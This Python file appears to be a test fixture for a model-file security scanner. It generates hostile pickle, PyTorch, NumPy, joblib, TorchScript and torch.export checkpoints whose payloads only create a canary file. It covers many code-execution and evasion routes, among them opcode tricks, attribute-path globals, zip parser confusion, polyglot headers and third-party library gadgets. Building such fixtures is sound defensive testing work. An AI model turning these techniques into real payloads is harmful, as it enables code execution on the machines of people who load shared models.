"""Generate hostile checkpoints whose payloads only create a canary file, one per family and opcode route.

`build(outdir, canaries)` writes every sample and returns name -> (path, loader, canary). `loader` says
how a victim loads it (`pickle`: pickle.load; `pickle-all`: pickle.load until EOF; `torch`:
torch.load(weights_only=False); `numpy`: np.load(allow_pickle=True); `jit`: torch.jit.load; `field`:
pickle.loads of the `blob` field). `run_all` (used in a subprocess) loads each and reports which canaries
appeared, so a sample that does not really run its payload fails the test instead of passing silently.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import sys
import tarfile
import zipfile


def _s(text: str) -> bytes:
    """A BINUNICODE string."""
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): the name part may be an attribute path."""
    return _s(module) + _s(name) + b"\x93"


def _touch_code(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def pickles(canary: str) -> dict[str, tuple[bytes, str]]:
    """Raw pickle payloads: name -> (bytes, loader)."""
    code = _touch_code(canary)
    p2, p4 = b"\x80\x02", b"\x80\x04"
    out = {
        "reduce-exec": p2 + _g("builtins", "exec") + _s(code) + b"\x85R.",
        "reduce-os-system": p2 + _g("os", "system") + _s(f"touch {canary}") + b"\x85R.",
        "reduce-open": p2 + _g("builtins", "open") + _s(canary) + _s("w") + b"\x86R.",
        "stdlib-logging-filehandler": p2 + _g("logging", "FileHandler") + _s(canary) + b"\x85R.",
        "stdlib-io-fileio": p2 + _g("io", "FileIO") + _s(canary) + _s("w") + b"\x86R.",
        "torch-save-called": p2 + _g("torch", "save") + b"K\x01" + _s(canary) + b"\x86R.",
        "numpy-savetxt-called": p2 + _g("numpy", "savetxt") + _s(canary) + b"]K\x01a\x86R.",
        "attr-pathlib-touch": p4
        + _sg("pathlib", "Path.touch")
        + _sg("pathlib", "PosixPath")
        + _s(canary)
        + b"\x85R\x85R.",
        "attr-pathlib-os-system": p4 + _sg("pathlib", "os.system") + _s(f"touch {canary}") + b"\x85R.",
        "attr-enum-bltns-exec": p4 + _sg("enum", "bltns.exec") + _s(code) + b"\x85R.",
        "attr-torch-module-torch-save": p4
        + _sg("torch.nn.modules.module", "torch.save")
        + b"K\x01"
        + _s(canary)
        + b"\x86R.",
        "attr-sampler-serialization-os": p4
        + _sg("torch.utils.data.sampler", "torch.serialization.os.system")
        + _s(f"touch {canary}")
        + b"\x85R.",
        "attr-numpy-ma-eval": p4 + _sg("numpy.ma.core", "builtins.eval") + _s(code) + b"\x85R.",
        "inst-protocol0": b"(S" + repr(code).encode() + b"\nibuiltins\nexec\n.",
        "obj-opcode": p2 + b"(" + _g("builtins", "exec") + _s(code) + b"o.",
        "newobj-build-setstate-dunder": p2
        + _g("argparse", "Namespace")
        + b")\x81}"
        + _s("__setstate__")
        + _g("builtins", "exec")
        + b"sb"
        + _s(code)
        + b"b.",
        "protocol0-text": b"cposix\nsystem\n(S'touch " + canary.encode() + b"'\ntR.",
        "no-proto-binary": _g("builtins", "exec") + b"(" + _s(code) + b"tR.",
        "frame-straddling": p4 + b"\x95" + struct.pack("<Q", 5) + _sg("builtins", "exec") + _s(code) + b"\x85R.",
        # the FRAME's declared length ends inside the harmless BINBYTES: parsers that honour frames differ
        "frame-cuts-binbytes": p4
        + b"\x95"
        + struct.pack("<Q", 12)
        + b"B"
        + struct.pack("<I", 20)
        + b"N" * 20
        + b"0"
        + _sg("builtins", "exec")
        + _s(code)
        + b"\x85R.",
        "py2-name-mapping": p2 + _g("__builtin__", "exec") + _s(code) + b"\x85R.",
        "py2-commands-getoutput": b"ccommands\ngetoutput\n(S'touch " + canary.encode() + b"'\ntR.",
        "smuggled-rebuild-from-type": p2
        + _g("torch._tensor", "_rebuild_from_type_v2")
        + b"("
        + _g("io", "FileIO")
        + _g("torch", "Tensor")
        + _s(canary)
        + _s("w")
        + b"\x86}tR.",
        "smuggled-copyreg-reconstructor": p2
        + _g("copyreg", "_reconstructor")
        + _g("logging", "FileHandler")
        + _g("logging", "FileHandler")
        + _s(canary)
        + b"\x87R.",
        "getattr-import-chain": p2
        + _g("builtins", "getattr")
        + _g("builtins", "__import__")
        + _s("os")
        + b"\x85R"
        + _s("system")
        + b"\x86R"
        + _s(f"touch {canary}")
        + b"\x85R.",
    }
    loaders = {name: (data, "pickle") for name, data in out.items()}
    stacked = pickle.dumps({"ok": 1}, protocol=2) + b"cposix\nsystem\n(S'touch " + canary.encode() + b"'\ntR."
    loaders["stacked-protocol0-second"] = (stacked, "pickle-all")
    return loaders


def _v(value: object) -> bytes:
    """A pickled argument: str, bytes, int, bool, None, list, tuple, or a global given as ("global", mod, name)."""
    if isinstance(value, str):
        return _s(value)
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, list):
        return b"](" + b"".join(map(_v, value)) + b"e"
    if isinstance(value, dict):
        assert not value
        return b"}"
    if isinstance(value, tuple) and value[:1] == ("global",):
        return _g(value[1], value[2])
    assert isinstance(value, tuple)
    return b"(" + b"".join(map(_v, value)) + b"t"


def _call(qualname: str, *args: object) -> bytes:
    """`module.name(*args)` as GLOBAL + args + REDUCE (no STOP)."""
    module, _, name = qualname.rpartition(".")
    return _g(module, name) + _v(tuple(args)) + b"R"


def _run(*calls: bytes) -> bytes:
    """A pickle that makes `calls` in order (a tuple of their results)."""
    return b"\x80\x02(" + b"".join(calls) + b"t."


def _write_text(path: str, text: str, encoding: str = "utf-8") -> bytes:
    """numpy.savetxt writing `text` verbatim (the header, without a comment prefix): the first step of a
    gadget that runs a file."""
    return _call("numpy.savetxt", path, [], "%s", " ", "\n", text, "", "", encoding)


# Gadgets in libraries installed beside torch (in this test environment: torch's, transformers' and Lightning's
# dependencies, click, pygments, psutil, accelerate), each verified to create its canary under pickle.load.
# name -> the global the finding must name.
THIRD_PARTY = {
    "tp-sympy-sympify": "sympy.sympify",
    "tp-sympy-parse-expr": "sympy.parsing.sympy_parser.parse_expr",
    "tp-sympy-eval-expr": "sympy.parsing.sympy_parser.eval_expr",
    "tp-sympy-S-instance": "sympy.S",
    "tp-yaml-unsafe-load": "yaml.unsafe_load",
    "tp-yaml-load-unsafe-loader": "yaml.load",
    "tp-psutil-popen": "psutil.Popen",
    "tp-hf-run-subprocess": "huggingface_hub.utils._subprocess.run_subprocess",
    "tp-click-edit": "click.edit",
    "tp-click-open-file": "click.utils.open_file",
    "tp-pygments-cmdline": "pygments.cmdline.main",
    "tp-pygments-lexer-file": "pygments.lexers.load_lexer_from_file",
    "tp-pygments-formatter-file": "pygments.formatters.load_formatter_from_file",
    "tp-lightning-cloud-io-load": "lightning.fabric.utilities.cloud_io._load",
    "tp-lightning-atomic-save": "lightning.fabric.utilities.cloud_io._atomic_save",
    "tp-lightning-hparams-yaml": "lightning.pytorch.core.saving.save_hparams_to_yaml",
    "tp-jinja2-import-string": "jinja2.utils.import_string",
    "tp-safetensors-torch-save-file": "safetensors.torch.save_file",
    "tp-safetensors-numpy-save-file": "safetensors.numpy.save_file",
    "tp-accelerate-write-config": "accelerate.utils.write_basic_config",
    "tp-accelerate-save": "accelerate.utils.save",
    "tp-hf-create-symlink": "huggingface_hub.file_download._create_symlink",
    "tp-transformers-direct-import": "transformers.utils.import_utils.direct_transformers_import",
    "tp-tqdm-manpath": "tqdm.cli.main",
    # writers that open their path through a decorator's table of openers (networkx's @open_file)
    "tp-networkx-write-adjlist": "networkx.readwrite.adjlist.write_adjlist",
    "tp-networkx-write-gml": "networkx.write_gml",
    "numpy-memmap-newobj": "numpy.memmap",
    "numpy-memmap-newobj-ex": "numpy.memmap",
    "numpy-memmap-copyreg-newobj": "numpy.memmap",
}
# samples whose payload writes a file of a fixed name (in the canary folder) instead of the canary path
CANARY_FILES = {"tp-tqdm-manpath": "tqdm.1"}


def third_party(canary: str) -> dict[str, tuple[bytes, str]]:
    """Payloads that call (or instantiate) third-party code that reaches a sink."""
    code = _touch_code(canary)
    touch = f"touch {canary}"
    shell = f"__import__('os').system({touch!r})"
    nested = b"\x80\x02" + _g("builtins", "exec") + _s(code) + b"\x85R."
    memmap_args = (canary, "uint8", "w+", 0, (1,))
    out = {
        "tp-sympy-sympify": _run(_call("sympy.sympify", shell)),
        "tp-sympy-parse-expr": _run(_call("sympy.parsing.sympy_parser.parse_expr", shell)),
        "tp-sympy-eval-expr": _run(_call("sympy.parsing.sympy_parser.eval_expr", shell, {}, {})),
        "tp-sympy-S-instance": _run(_call("sympy.S", shell)),
        "tp-yaml-unsafe-load": _run(_call("yaml.unsafe_load", f"!!python/object/apply:os.system [{touch!r}]")),
        "tp-yaml-load-unsafe-loader": _run(
            _call("yaml.load", f"!!python/object/apply:os.system [{touch!r}]", ("global", "yaml", "Loader"))
        ),
        "tp-psutil-popen": _run(_call("psutil.Popen", ["touch", canary])),
        "tp-hf-run-subprocess": _run(_call("huggingface_hub.utils._subprocess.run_subprocess", touch)),
        "tp-click-edit": _run(_call("click.edit", None, touch, None, True, ".txt", canary + ".txt")),
        "tp-click-open-file": _run(_call("click.utils.open_file", canary, "w")),
        "tp-pygments-cmdline": _run(
            _call("pygments.cmdline.main", ["pygmentize", "-l", "text", "-f", "html", "-o", canary, "/dev/null"])
        ),
        "tp-pygments-lexer-file": _run(
            _write_text(canary + ".py", code), _call("pygments.lexers.load_lexer_from_file", canary + ".py")
        ),
        "tp-pygments-formatter-file": _run(
            _write_text(canary + ".py", code), _call("pygments.formatters.load_formatter_from_file", canary + ".py")
        ),
        "tp-lightning-cloud-io-load": _run(
            _write_text(canary + ".pkl", nested.decode("latin1"), "latin1"),
            _call("lightning.fabric.utilities.cloud_io._load", canary + ".pkl", None, False),
        ),
        "tp-lightning-atomic-save": _run(_call("lightning.fabric.utilities.cloud_io._atomic_save", {}, canary)),
        "tp-lightning-hparams-yaml": _run(_call("lightning.pytorch.core.saving.save_hparams_to_yaml", canary, {})),
        "tp-jinja2-import-string": b"\x80\x02"
        + _call("jinja2.utils.import_string", "os.system")
        + _v((touch,))
        + b"R.",
        "tp-safetensors-torch-save-file": _run(_call("safetensors.torch.save_file", {}, canary)),
        "tp-safetensors-numpy-save-file": _run(_call("safetensors.numpy.save_file", {}, canary)),
        "tp-accelerate-write-config": _run(_call("accelerate.utils.write_basic_config", "no", canary)),
        "tp-accelerate-save": _run(_call("accelerate.utils.save", {}, canary)),
        "tp-hf-create-symlink": _run(_call("huggingface_hub.file_download._create_symlink", "/", canary)),
        "tp-transformers-direct-import": _run(
            _write_text(canary + ".py", code),
            _call(
                "transformers.utils.import_utils.direct_transformers_import",
                os.path.dirname(canary),
                os.path.basename(canary) + ".py",
            ),
        ),
        "tp-tqdm-manpath": _run(_call("tqdm.cli.main", None, ["--manpath", os.path.dirname(canary)])),
        "tp-networkx-write-adjlist": _run(
            _g("networkx.readwrite.adjlist", "write_adjlist") + b"(" + _call("networkx.Graph") + _s(canary) + b"tR"
        ),
        "tp-networkx-write-gml": _run(
            _g("networkx", "write_gml") + b"(" + _call("networkx.Graph") + _s(canary) + b"tR"
        ),
        # numpy.memmap.__new__ creates the file: only instantiated (NEWOBJ), never called
        "numpy-memmap-newobj": b"\x80\x02" + _g("numpy", "memmap") + _v(memmap_args) + b"\x81.",
        "numpy-memmap-newobj-ex": b"\x80\x04" + _g("numpy", "memmap") + _v(memmap_args) + b"}\x92.",
        "numpy-memmap-copyreg-newobj": b"\x80\x02"
        + _g("copyreg", "__newobj__")
        + b"("
        + _g("numpy", "memmap")
        + b"".join(map(_v, memmap_args))
        + b"tR.",
    }
    return {name: (data, "pickle") for name, data in out.items()}


def _torch_zip(data_pkl: bytes, *, duplicate_first: bytes = b"") -> bytes:
    """A torch.save-style zip around `data_pkl` (optionally with an earlier record of the same name)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/version", "3\n")
        if duplicate_first:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                z.writestr("archive/data.pkl", duplicate_first)
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", "little")
    return buf.getvalue()


def _stored_zip(entries: list[tuple[str, bytes]], base: int) -> tuple[bytes, bytes]:
    """Local records for `entries` written at file offset `base`, and the central directory naming them."""
    import zlib

    local, central = b"", b""
    for name, data in entries:
        crc, raw = zlib.crc32(data), name.encode()
        offset = base + len(local)
        local += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), len(raw), 0)
        local += raw + data
        central += (
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0,
                0,
                0,
                0,
                crc,
                len(data),
                len(data),
                len(raw),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + raw
        )
    return local, central


def two_directories(benign: bytes, evil: bytes) -> bytes:
    """One zip, two central directories: zipfile takes the zip64 end record right before the locator (the
    benign data.pkl), torch's reader the one at the offset the locator gives (the evil data.pkl)."""

    def records(pkl: bytes) -> list[tuple[str, bytes]]:
        return [("archive/data.pkl", pkl), ("archive/byteorder", b"little"), ("archive/version", b"3\n")]

    local_a, _ = _stored_zip(records(benign), 0)
    local_b, _ = _stored_zip(records(evil), len(local_a))
    _, central_a = _stored_zip(records(benign), 0)
    _, central_b = _stored_zip(records(evil), len(local_a))

    def zip64_end(cd_offset: int, cd_size: int) -> bytes:
        return struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 3, 3, cd_size, cd_offset)

    out = local_a + local_b
    cd_b_at = len(out)
    out += central_b
    torch_end_at = len(out)
    out += zip64_end(cd_b_at, len(central_b))
    cd_a_at = len(out)
    out += central_a + zip64_end(cd_a_at, len(central_a))
    out += struct.pack("<4sLQL", b"PK\x06\x07", 0, torch_end_at, 1)
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return out


def containers(canary: str) -> dict[str, tuple[bytes, str]]:
    """Payloads inside the containers torch.load and numpy read."""
    code = _touch_code(canary)
    evil = b"\x80\x02" + _g("builtins", "exec") + _s(code) + b"\x85R."
    benign = pickle.dumps({"w": 1}, protocol=2)
    out: dict[str, tuple[bytes, str]] = {
        "zip-data-pkl": (_torch_zip(evil), "torch"),
        "zip-duplicate-data-pkl": (_torch_zip(evil, duplicate_first=benign), "torch"),
        "zip-two-central-directories": (two_directories(benign, evil), "torch"),
    }
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    indirect = b"\x80\x02" + _g("builtins", "int") + _s("1950a86a20f9469cfc6c") + b"K\x10\x86R."
    legacy_tail = pickle.dumps(1001, protocol=2) + pickle.dumps({"little_endian": True}, protocol=2) + evil
    out["legacy-payload-after-magic"] = (magic + legacy_tail, "torch")
    out["legacy-indirect-magic"] = (indirect + legacy_tail, "torch")
    out["payload-before-legacy-magic"] = (evil + magic + legacy_tail, "torch")
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo("storages")
        info.size = len(evil)
        t.addfile(info, io.BytesIO(evil))
    raw = bytearray(tar.getvalue())
    raw[257:265] = b"\0" * 8  # an old v7 tar: no ustar magic
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\0 " % sum(raw[:512])
    out["legacy-tar-no-ustar"] = (bytes(raw), "torch")
    # SHORT_BINBYTES of 6 zero bytes and "{": bytes 0..7 read as a small safetensors header length, byte 8 is "{"
    poly = b"C\x07" + b"\x00" * 6 + b"{0" + evil[2:]
    out["safetensors-sniffing-pickle"] = (poly + b" " * (0x743 + 8 - len(poly)), "torch")
    npy_header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    npy_header += " " * (63 - len(npy_header) - 10) + "\n"
    out["npy-object-array"] = (
        b"\x93NUMPY\x01\x00" + struct.pack("<H", len(npy_header)) + npy_header.encode() + evil,
        "numpy",
    )
    import bz2
    import gzip
    import lzma
    import zlib

    for name, compress in (
        ("zlib", zlib.compress),
        ("gzip", gzip.compress),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
        ("lzma", lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE)),
    ):
        out[f"joblib-{name}-compressed"] = (compress(evil), "compressed")
    nested = b"\x80\x02}" + _s("blob") + b"C" + bytes([len(evil)]) + evil + b"s."
    out["nested-pickle-in-field"] = (nested, "field")
    return out


def torchscript(canary: str, path: str) -> None:
    """A TorchScript archive whose __setstate__ maps (and creates) a file with torch.from_file on load."""
    import torch
    from torch import nn

    class FromFile(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.target = canary
            self.n = 0

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return (self.target, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            self.target = state[0]
            self.training = state[1]
            self.n = torch.from_file(self.target, True, 1).numel()  # used, so the compiler keeps the call

    torch.jit.save(torch.jit.script(FromFile()), path)


def pt2(canary: str, path: str) -> None:
    """A torch.export archive whose first weight is marked pickled and replaced by a payload: torch.export.load
    unpickles it with weights_only=False."""
    import torch
    from torch import nn

    program = torch.export.export(nn.Linear(2, 1), (torch.randn(1, 2),))
    buf = io.BytesIO()
    torch.export.save(program, buf)
    evil = _torch_zip(b"\x80\x02" + _g("builtins", "exec") + _s(_touch_code(canary)) + b"\x85R.")
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    config_name = next(n for n in src.namelist() if n.endswith("model_weights_config.json"))
    config = json.loads(src.read(config_name))
    first = next(iter(config["config"].values()))
    first["use_pickle"] = True
    target = config_name.rsplit("/", 1)[0] + "/" + first["path_name"]
    with zipfile.ZipFile(path, "w") as out:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == config_name:
                data = json.dumps(config).encode()
            elif info.filename == target:
                data = evil
            out.writestr(info.filename, data)


_EXTENSIONS = {
    "compressed": ".joblib",
    "pickle": ".pkl",
    "pickle-all": ".pkl",
    "field": ".pkl",
    "torch": ".pt",
    "numpy": ".npy",
}


def build(outdir: str, canaries: str) -> dict[str, tuple[str, str, str]]:
    """Write every sample; name -> (path, loader, canary path)."""
    os.makedirs(outdir, exist_ok=True)
    os.makedirs(canaries, exist_ok=True)
    out = {}
    samples = {}
    for family in (pickles, containers, third_party):
        for name in family("?"):
            canary = os.path.join(canaries, CANARY_FILES.get(name, name))
            samples[name] = family(canary)[name] + (canary,)
    for name, (data, loader, canary) in samples.items():
        path = os.path.join(outdir, name + _EXTENSIONS[loader])
        with open(path, "wb") as f:
            f.write(data)
        out[name] = (path, loader, canary)
    canary = os.path.join(canaries, "torchscript-from-file")
    path = os.path.join(outdir, "torchscript-from-file.pt")
    torchscript(canary, path)
    out["torchscript-from-file"] = (path, "jit", canary)
    canary = os.path.join(canaries, "pt2-pickled-weight")
    path = os.path.join(outdir, "pt2-pickled-weight.pt2")
    pt2(canary, path)
    out["pt2-pickled-weight"] = (path, "export", canary)
    return out


def _joblib_load(path: str) -> None:
    try:
        import joblib  # type: ignore[import-not-found]
    except ImportError:
        import bz2
        import gzip
        import lzma
        import zlib

        data = open(path, "rb").read()
        for decompress in (zlib.decompress, gzip.decompress, bz2.decompress, lzma.decompress):
            try:
                raw = decompress(data)
            except Exception:
                continue
            pickle.loads(raw)
            return
    else:
        joblib.load(path)


def run_all(samples: dict[str, tuple[str, str, str]]) -> dict[str, bool]:
    """Load every sample as its victim would; name -> whether its canary appeared. Runs hostile code!"""
    import numpy as np
    import torch

    ran = {}
    for path, loader, _ in samples.values():
        try:
            if loader == "pickle":
                with open(path, "rb") as f:
                    pickle.load(f)
            elif loader == "pickle-all":
                with open(path, "rb") as f:
                    while f.peek(1)[:1]:
                        pickle.load(f)
            elif loader == "torch":
                torch.load(path, weights_only=False)
            elif loader == "numpy":
                np.load(path, allow_pickle=True)
            elif loader == "jit":
                torch.jit.load(path)
            elif loader == "compressed":  # what joblib.load does with a compressed file (joblib itself if installed)
                _joblib_load(path)
            elif loader == "export":
                torch.export.load(path)
            elif loader == "field":
                with open(path, "rb") as f:
                    pickle.loads(pickle.load(f)["blob"])
        except BaseException:  # the payload ran (or not) before the loader failed (or exited); the canary tells
            pass
    import time

    deadline = time.monotonic() + 30  # a payload that starts a process does not wait for it
    while not all(os.path.exists(c) for _, _, c in samples.values()) and time.monotonic() < deadline:
        time.sleep(0.05)
    for name, (_, _, canary) in samples.items():
        ran[name] = os.path.exists(canary)
    return ran


if __name__ == "__main__":
    print(json.dumps(run_all(json.load(open(sys.argv[1])))))
